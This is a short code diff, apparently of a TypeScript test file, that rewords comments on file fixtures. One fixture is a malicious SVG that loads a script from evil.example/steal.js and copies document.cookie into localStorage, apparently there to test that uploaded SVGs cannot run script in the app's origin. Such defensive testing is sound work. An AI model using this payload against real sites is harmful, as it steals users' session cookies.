@@ -53,7 +53,7 @@ const drawing = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 60 40">
 </svg>
 `;
 
-/** Tells what it reads in the page's origin, if a browser ever opens it as a page there. */
+/** Writes the cookies to `localStorage.stolen` if a browser opens this file as a page of the dashboard's origin. */
 const evil = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 60 40">
 <script href="https://evil.example/steal.js"></script>
 <script>localStorage.setItem("stolen", document.cookie)</script>
@@ -104,7 +104,7 @@ const many = (): Node =>
     ),
   );
 
-/** A file of sysfs: its size is that of a page, whatever its content. */
+/** A file as in sysfs: its size is that of a memory page, whatever its content. */
 const virtual = (content: string): File => ({ ...file(content), size: 4096 });
 
 const latin1 = (text: string): File => file(Buffer.from(text, "latin1"));
